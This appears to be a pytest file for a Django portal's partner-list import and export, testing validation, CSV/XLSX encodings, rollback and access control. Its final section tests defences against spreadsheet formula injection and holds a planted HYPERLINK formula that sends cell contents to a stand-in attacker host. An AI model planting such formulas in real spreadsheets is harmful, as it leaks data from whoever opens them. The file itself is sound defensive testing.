"""Import and export of the partner list (partners/transfer.py and the import views)."""

import csv
import io

import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from partners import transfer
from partners.models import Partner, PartnerImport, PartnerStatus, PartnerType
from partnership_portal.models import ImportStatus
from partnership_portal.validators import inn_with_check_digits
from tests.factories import PartnerFactory, SpecialtyFactory
from tests.helpers import ru, wrong_check_digit

WRONG_INN_CHECK_DIGIT = "Неверная контрольная цифра ИНН: проверьте номер."
BAD_EMAIL = "Электронная почта: Введите правильный адрес электронной почты."


def headers(language="ru"):
    with translation.override(language):
        return [str(column.label) for column in transfer.COLUMNS]


def partner_row(n, **changes):
    """One valid row of an import file, as {field: cell}."""
    with translation.override("ru"):
        type_label, status_label = str(PartnerType.BASE.label), str(PartnerStatus.ACTIVE.label)
    row = {
        "name": f"ООО «Партнёр №{n:04d}»",
        "short_name": f"Партнёр-{n:04d}",
        "inn": inn_with_check_digits(f"66{n:07d}"),
        "kpp": "667101001",
        "type": type_label,
        "status": status_label,
        "legal_address": f"620000, г. Екатеринбург, ул. Ленина, {n}",
        "industry": "Машиностроение",
        "phone": f"+7 343 100-{n:04d}",
        "email": f"hr{n}@partner.example",
        "specialties": "15.02.16, 22.02.06" if n % 2 else "15.02.16",
        "partner_since": "01.09.2020",
    }
    return {**row, **changes}


def table(rows, language="ru"):
    return [headers(language)] + [[row.get(column.field) for column in transfer.COLUMNS] for row in rows]


def xlsx_file(rows, name="partners.xlsx"):
    workbook = Workbook()
    for cells in table(rows):
        workbook.active.append(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def csv_file(rows, *, delimiter, encoding, language="ru", name="partners.csv"):
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(
        [[cell or "" for cell in cells] for cells in table(rows, language)]
    )
    return SimpleUploadedFile(name, buffer.getvalue().encode(encoding))


def upload(client, uploaded):
    """Uploads through the form; returns the import page the upload redirects to."""
    response = client.post(reverse("partners:import_start"), {"file": uploaded})
    assert response.status_code == 302, response.context["form"].errors
    return client.get(response.url)


def confirm(client, partner_import):
    return client.post(reverse("partners:import_detail", args=[partner_import.pk]))


def upload_and_confirm(client, uploaded):
    partner_import = upload(client, uploaded).context["partner_import"]
    assert partner_import.errors == []
    assert confirm(client, partner_import).url == reverse("partners:list")
    partner_import.refresh_from_db()
    return partner_import


@pytest.fixture
def specialties(db):
    return SpecialtyFactory(code="15.02.16"), SpecialtyFactory(code="22.02.06")


# --- The acceptance test --------------------------------------------------------------------


def test_acceptance_1000_partner_xlsx_is_checked_whole_then_imported_then_updated(staff_client, specialties):
    rows = [partner_row(n) for n in range(1, 1001)]  # file line = n + 1
    bad_inn = wrong_check_digit(rows[9]["inn"])
    bad_rows = [partner_row(n) for n in range(1, 1001)]
    bad_rows[9]["inn"] = bad_inn
    bad_rows[199]["name"] = None
    bad_rows[399]["inn"] = rows[398]["inn"]
    bad_rows[599]["specialties"] = "15.02.16, 99.02.99"
    bad_rows[998]["email"] = "не-почта"

    # 1. Five bad rows: nothing is written, each bad row is listed with its line and reasons.
    page = upload(staff_client, xlsx_file(bad_rows))
    partner_import = page.context["partner_import"]
    assert Partner.objects.count() == 0
    assert partner_import.status == ImportStatus.INVALID
    assert [(error["line"], error["messages"]) for error in partner_import.errors] == [
        (11, [f"ИНН {bad_inn}: {WRONG_INN_CHECK_DIGIT}"]),
        (201, [ru("the full name is missing")]),
        (401, [ru("INN %(inn)s repeats the row %(line)d of the file", inn=rows[398]["inn"], line=400)]),
        (601, [ru("unknown specialty codes: %(codes)s", codes="99.02.99")]),
        (1000, [BAD_EMAIL]),
    ]
    html = page.content.decode()
    assert html.count("<tr><td>") == 5
    assert all(f"<tr><td>{line}</td>" in html for line in (11, 201, 401, 601, 1000))
    assert f'<tr><td>11</td><td class="font-monospace">{bad_inn}</td>' in html
    assert WRONG_INN_CHECK_DIGIT in html and BAD_EMAIL in html

    # 2. The corrected file: a preview of 1000 new partners, then one confirmation writes them all.
    page = upload(staff_client, xlsx_file(rows))
    partner_import = page.context["partner_import"]
    assert page.context["plan"]["create"] == 1000 and page.context["plan"]["update"] == 0
    all_correct = "All %(total)s rows are correct: %(create)s partners will be added and %(update)s updated."
    assert ru(all_correct, total=1000, create=1000, update=0) in page.content.decode()
    confirm(staff_client, partner_import)

    partner_import.refresh_from_db()
    assert (partner_import.status, partner_import.created_count, partner_import.updated_count) == ("done", 1000, 0)
    assert Partner.objects.count() == 1000
    assert Partner.objects.filter(specialties__code="15.02.16").count() == 1000
    assert Partner.objects.filter(specialties__code="22.02.06").count() == 500
    first = Partner.objects.get(inn=rows[0]["inn"])
    assert (first.name, first.type, first.status, str(first.partner_since)) == (
        "ООО «Партнёр №0001»",
        PartnerType.BASE,
        PartnerStatus.ACTIVE,
        "2020-09-01",
    )
    assert first.search_text == f"ооо «партнер №0001» | партнер-0001 | {rows[0]['inn']}"

    # 3. The same file again, with new phones and blank e-mail and specialty cells: updates only.
    again = [
        {**row, "phone": f"+7 343 200-{n:04d}", "email": None, "specialties": None} for n, row in enumerate(rows, 1)
    ]
    partner_import = upload_and_confirm(staff_client, xlsx_file(again))
    assert (partner_import.created_count, partner_import.updated_count) == (0, 1000)
    assert Partner.objects.count() == 1000
    last = Partner.objects.get(inn=rows[999]["inn"])
    assert (last.phone, last.email) == ("+7 343 200-1000", "hr1000@partner.example")
    assert sorted(last.specialties.values_list("code", flat=True)) == ["15.02.16"]
    assert Partner.objects.filter(specialties__code="22.02.06").count() == 500


# --- File formats ---------------------------------------------------------------------------


def test_windows_1251_csv_separated_by_semicolons_imports(staff_client, specialties):
    partner_import = upload_and_confirm(
        staff_client, csv_file([partner_row(1), partner_row(2)], delimiter=";", encoding="cp1251")
    )
    assert partner_import.created_count == 2
    assert sorted(Partner.objects.values_list("name", flat=True)) == ["ООО «Партнёр №0001»", "ООО «Партнёр №0002»"]


def test_utf8_bom_csv_separated_by_commas_with_english_headers_imports(staff_client, specialties):
    uploaded = csv_file([partner_row(1), partner_row(2)], delimiter=",", encoding="utf-8-sig", language="en")
    partner_import = upload_and_confirm(staff_client, uploaded)
    assert partner_import.created_count == 2
    partner = Partner.objects.get(inn=partner_row(1)["inn"])
    assert partner.name == "ООО «Партнёр №0001»"
    assert sorted(partner.specialties.values_list("code", flat=True)) == ["15.02.16", "22.02.06"]


def test_file_without_a_required_column_gets_one_file_level_error(staff_client):
    name, phone = headers()[0], headers()[11]
    uploaded = SimpleUploadedFile("partners.csv", f"{name};{phone}\nООО «Ромашка»;+7 343 000-00-01\n".encode())

    partner_import = upload(staff_client, uploaded).context["partner_import"]
    message = "The header row has no column %(columns)s. Download the template to see the expected columns."
    assert partner_import.status == ImportStatus.INVALID
    assert partner_import.errors == [{"line": None, "inn": "", "name": "", "messages": [ru(message, columns="«ИНН»")]}]
    assert Partner.objects.count() == 0


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("partners.pdf", b"%PDF-1.7\n1 0 obj << >> endobj\n"),
        ("partners.xlsx", b"%PDF-1.7\n1 0 obj << >> endobj\n"),
        ("partners.xlsx", "Полное наименование;ИНН\nООО «Ромашка»;6600000003\n".encode()),
    ],
)
def test_upload_form_refuses_a_file_that_is_not_really_xlsx_or_csv(staff_client, name, content):
    response = staff_client.post(reverse("partners:import_start"), {"file": SimpleUploadedFile(name, content)})
    not_real = "«%(name)s» is not a real %(kinds)s file (its content was checked, not just its name)."
    assert response.status_code == 200
    assert response.context["form"].errors == {"file": [ru(not_real, name=name, kinds="XLSX, CSV")]}
    assert not PartnerImport.objects.exists()


def test_upload_form_refuses_a_file_over_the_size_limit(staff_client, settings):
    settings.IMPORT_MAX_BYTES = 1000
    uploaded = csv_file([partner_row(n) for n in range(1, 11)], delimiter=";", encoding="utf-8")
    assert uploaded.size > 1000
    response = staff_client.post(reverse("partners:import_start"), {"file": uploaded})
    assert [error.code for error in response.context["form"].errors.as_data()["file"]] == ["too_large"]
    assert not PartnerImport.objects.exists()


def test_too_long_phone_is_a_row_error_not_a_failed_confirmation(staff_client):
    long_phone = "+7 (343) 100-00-01, +7 (343) 100-00-02 доб. 123"
    uploaded = csv_file([partner_row(1, phone=long_phone, specialties=None)], delimiter=";", encoding="utf-8")
    partner_import = upload(staff_client, uploaded).context["partner_import"]
    assert [error["line"] for error in partner_import.errors] == [2]


# --- Confirmation ---------------------------------------------------------------------------


def test_confirming_an_import_twice_imports_once(staff_client, specialties):
    partner_import = upload_and_confirm(staff_client, csv_file([partner_row(1)], delimiter=";", encoding="utf-8"))

    response = confirm(staff_client, partner_import)
    assert response.url == reverse("partners:import_detail", args=[partner_import.pk])
    assert [str(m) for m in get_messages(response.wsgi_request)][-1] == ru(
        "This import cannot be confirmed (it has errors or was already done)."
    )
    partner_import.refresh_from_db()
    assert (partner_import.created_count, partner_import.updated_count) == (1, 0)
    assert Partner.objects.count() == 1


def test_import_with_errors_cannot_be_confirmed(staff_client, specialties):
    rows = [partner_row(1), partner_row(2, email="не-почта")]
    partner_import = upload(staff_client, csv_file(rows, delimiter=";", encoding="utf-8")).context["partner_import"]

    confirm(staff_client, partner_import)
    partner_import.refresh_from_db()
    assert partner_import.status == ImportStatus.INVALID
    assert Partner.objects.count() == 0  # not even the good row


@pytest.mark.django_db(transaction=True)  # the service's own transaction is the outermost one, as in production
def test_an_import_that_fails_while_writing_leaves_the_register_as_it_was(staff):
    SpecialtyFactory(code="15.02.16")
    withdrawn = SpecialtyFactory(code="22.02.06")
    rows = [partner_row(n) for n in range(1, 5)]
    existing = PartnerFactory(inn=rows[0]["inn"], name="ООО «Прежнее имя»")
    partner_import = transfer.import_create(uploaded=csv_file(rows, delimiter=";", encoding="utf-8"), uploaded_by=staff)
    assert partner_import.status == ImportStatus.PREVIEW
    history = Partner.history.count()
    # Between the preview and the confirmation the specialty some rows name is deleted: the
    # partners are written first, the links to that specialty then fail.
    withdrawn.delete()

    with pytest.raises(IntegrityError):
        transfer.import_apply(partner_import=partner_import, applied_by=staff)

    assert list(Partner.objects.values_list("inn", flat=True)) == [existing.inn]
    existing.refresh_from_db()
    assert existing.name == "ООО «Прежнее имя»"
    assert Partner.history.count() == history
    partner_import.refresh_from_db()
    assert (partner_import.status, len(partner_import.rows)) == (ImportStatus.PREVIEW, 4)


# --- Who may import -------------------------------------------------------------------------


@pytest.fixture
def pending_import(staff):
    return PartnerImport.objects.create(
        uploaded_by=staff,
        file_name="partners.csv",
        status=ImportStatus.PREVIEW,
        rows=[{"line": 2, "values": {"name": "ООО «Ромашка»", "inn": inn_with_check_digits("660000009")}}],
    )


def import_urls(partner_import):
    return [
        reverse("partners:import_start"),
        reverse("partners:import_template"),
        reverse("partners:import_detail", args=[partner_import.pk]),
    ]


def test_teacher_gets_403_on_import_pages_and_cannot_confirm(client, teacher, pending_import):
    client.force_login(teacher)
    assert [client.get(url).status_code for url in import_urls(pending_import)] == [403, 403, 403]
    assert confirm(client, pending_import).status_code == 403
    assert client.post(reverse("partners:import_start"), {"file": xlsx_file([partner_row(1)])}).status_code == 403
    assert (Partner.objects.count(), PartnerImport.objects.count()) == (0, 1)


def test_employer_gets_404_on_import_pages_and_cannot_confirm(employer_a_client, pending_import):
    assert [employer_a_client.get(url).status_code for url in import_urls(pending_import)] == [404, 404, 404]
    assert confirm(employer_a_client, pending_import).status_code == 404
    pending_import.refresh_from_db()
    assert pending_import.status == ImportStatus.PREVIEW
    assert not Partner.objects.filter(inn=inn_with_check_digits("660000009")).exists()


# --- The template and export ----------------------------------------------------------------


def test_import_template_has_the_russian_headers(staff_client):
    response = staff_client.get(reverse("partners:import_template"))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert [cell.value for cell in sheet[1]] == headers()
    assert "ИНН" in headers()


def test_import_template_example_row_passes_the_import_checks(staff_client, specialties):
    template = staff_client.get(reverse("partners:import_template")).content
    partner_import = upload(staff_client, SimpleUploadedFile("template.xlsx", template)).context["partner_import"]
    assert partner_import.errors == []


@pytest.fixture
def register(partner_a, partner_b, specialties):
    """Two active partners with specialties and phones, and partners of other statuses."""
    partner_a.specialties.set(specialties)
    Partner.objects.filter(pk=partner_a.pk).update(phone="+7 343 000-00-01")
    PartnerFactory(name="ООО «Будущий партнёр»", status=PartnerStatus.PROSPECT)
    PartnerFactory(name="ООО «Бывший партнёр»", status=PartnerStatus.ENDED)
    return partner_a, partner_b


def test_xlsx_export_of_a_filtered_list_has_only_those_partners(staff_client, register):
    partner_a, partner_b = register
    response = staff_client.get(reverse("partners:export", args=["xlsx"]), {"status": "active"})

    rows = list(load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows(values_only=True))
    assert list(rows[0]) == headers()
    names = {row[0]: row for row in rows[1:]}
    assert sorted(names) == ["АО «Уралмашзавод»", "ООО «Сибэнергомонтаж»"]
    assert (names["АО «Уралмашзавод»"][2], names["АО «Уралмашзавод»"][13]) == (partner_a.inn, "15.02.16, 22.02.06")


def test_csv_export_round_trip_updates_the_partners(staff_client, register):
    partner_a, partner_b = register
    response = staff_client.get(reverse("partners:export", args=["csv"]))
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    assert text.splitlines()[0].split(";") == headers()
    assert len(text.splitlines()) == 5  # header and four partners

    edited = text.replace("+7 343 000-00-01", "+7 343 000-00-99").encode("utf-8-sig")
    partner_import = upload_and_confirm(staff_client, SimpleUploadedFile("partners.csv", edited))

    assert (partner_import.created_count, partner_import.updated_count) == (0, 4)
    assert Partner.objects.count() == 4
    partner_a.refresh_from_db()
    assert partner_a.phone == "+7 343 000-00-99"
    assert sorted(partner_a.specialties.values_list("code", flat=True)) == ["15.02.16", "22.02.06"]
    assert set(Partner.objects.values_list("status", flat=True)) == {"active", "prospect", "ended"}


# --- Formula injection and phone format (issue 13) ------------------------------------------

PLANTED = '=HYPERLINK("http://ev.il/?"&A1,"call")'


def test_exports_keep_planted_formulas_as_text_and_import_back_unchanged(staff_client, register):
    partner_a, _partner_b = register
    Partner.objects.filter(pk=partner_a.pk).update(name=PLANTED, industry="@SUM(A1)")
    response = staff_client.get(reverse("partners:export", args=["xlsx"]))
    rows = list(load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows())
    cells = {cell.value: cell for row in rows[1:] for cell in row if isinstance(cell.value, str)}
    assert PLANTED not in cells and "@SUM(A1)" not in cells
    assert cells["'" + PLANTED].data_type == "s"
    assert "'+7 343 000-00-01" in cells  # a phone starting with + is neutralised too

    text = staff_client.get(reverse("partners:export", args=["csv"])).content.decode("utf-8-sig")
    line = next(line for line in text.splitlines() if "HYPERLINK" in line)
    assert line.startswith("\"'=HYPERLINK") and ";'@SUM(A1);" in line and ";'+7 343 000-00-01;" in line

    upload_and_confirm(staff_client, SimpleUploadedFile("partners.csv", text.encode("utf-8-sig")))
    partner_a.refresh_from_db()
    assert (partner_a.name, partner_a.industry, partner_a.phone) == (PLANTED, "@SUM(A1)", "+7 343 000-00-01")


def test_imported_phone_that_is_not_a_phone_number_is_a_row_error(staff_client):
    uploaded = csv_file([partner_row(1, phone=PLANTED, specialties=None)], delimiter=";", encoding="utf-8")
    partner_import = upload(staff_client, uploaded).context["partner_import"]
    assert [error["line"] for error in partner_import.errors] == [2]
    assert not Partner.objects.exists()
